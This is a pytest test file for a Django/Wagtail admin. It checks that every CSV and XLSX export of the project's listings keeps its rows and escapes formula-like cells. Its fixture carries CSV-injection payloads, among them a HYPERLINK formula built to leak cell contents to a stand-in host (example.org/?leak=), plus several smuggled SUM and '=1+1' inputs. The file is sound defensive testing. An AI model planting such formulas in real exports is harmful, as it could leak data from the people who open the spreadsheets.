"""Every export (CSV and XLSX) of every admin listing our apps register has its rows and no formula cells."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings
from django.urls import get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.viewsets import viewsets as viewset_registry
from wagtail.admin.viewsets.model import ModelViewSet

from accounts.roles import ADMIN
from core.csv import FORMULA_PREFIXES
from modules.services import record_module_version
from tests.accounts.factories import sign_in_with_second_factor, staff_user
from tests.certificates.factories import build_module, issued_certificate
from tests.practices.factories import make_member, make_practice

pytestmark = pytest.mark.django_db

# Text a spreadsheet would run as a formula, in a field each listing exports.
FORMULA = '=HYPERLINK("https://example.org/?leak="&A1,"Click")'


def our_packages() -> set[str]:
    """Return the top-level packages of this project's own apps (not the installed libraries)."""
    base = Path(settings.BASE_DIR).resolve()
    ours = set()
    for config in apps.get_app_configs():
        path = Path(config.path).resolve()
        if base in path.parents and "site-packages" not in path.parts:
            ours.add(config.name.split(".")[0])
    return ours


def our_model_viewsets() -> list[ModelViewSet]:
    """Return every ModelViewSet registered in the admin by an app of this project (not a library)."""
    get_resolver().url_patterns  # noqa: B018 (loading the URLconf registers the admin viewsets)
    ours = our_packages()
    return [
        viewset for viewset in viewset_registry.viewsets
        if isinstance(viewset, ModelViewSet) and type(viewset).__module__.split(".")[0] in ours
    ]


@pytest.fixture
def hostile_records():
    """Records of every model our listings show, each carrying formula-like text somewhere exported."""
    practice = make_practice(name=FORMULA)
    make_member(practice, email="olive@example.org", first_name="+SUM(1,1)", last_name="-1+2")
    module = build_module(title="@SUM(A1:A9)")
    record_module_version(module=module)
    issued_certificate(module=module)
    # A certificate from a learner whose name is a formula.
    from tests.certificates.factories import member

    issued_certificate(member(first_name="=1+1", last_name="\tTab"), build_module(title="-Leading minus"))


def exported_fields(viewset: ModelViewSet) -> list:
    """Return the fields the listing exports (the viewset's, else its index view's own)."""
    fields = viewset.list_export
    return list(viewset.index_view_class.list_export if fields is ModelViewSet.UNDEFINED else fields)


def _csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx_rows(response) -> list[list[object]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body), read_only=True).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_discovery_finds_the_listings_of_each_app():
    found = {type(viewset).__module__.split(".")[0]: viewset for viewset in our_model_viewsets()}
    assert {"practices", "certificates", "modules"} <= set(found)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_every_export_of_every_listing_has_its_rows_and_no_formula(client, hostile_records, export_format):
    sign_in_with_second_factor(client, staff_user(ADMIN))
    checked = []
    for viewset in our_model_viewsets():
        fields = exported_fields(viewset)
        if not fields:
            continue  # this listing offers no download
        expected_rows = viewset.model._default_manager.count()
        assert expected_rows > 0, f"the fixture makes no {viewset.model.__name__}"
        url = reverse(viewset.get_url_name("index")) + f"?export={export_format}"
        response = client.get(url)
        assert response.status_code == 200, url
        rows = _csv_rows(response) if export_format == "csv" else _xlsx_rows(response)
        header, data = rows[0], [row for row in rows[1:] if any(cell not in ("", None) for cell in row)]
        assert len(header) == len(fields), url
        assert len(data) == expected_rows, f"{url}: {len(data)} rows, expected {expected_rows}"
        assert all(any(cell not in ("", None) for cell in row) for row in data)
        texts = [cell for row in data for cell in row if isinstance(cell, str)]
        unsafe = [cell for cell in texts if cell.startswith(FORMULA_PREFIXES)]
        assert unsafe == [], f"{url} exports formula cells: {unsafe}"
        assert any(cell.startswith("'") and cell[1:2] in "=+-@\t" for cell in texts), (
            f"{url}: the fixture should put formula-like text into this listing's export"
        )
        checked.append(viewset.model.__name__)
    assert len(checked) >= 4, checked
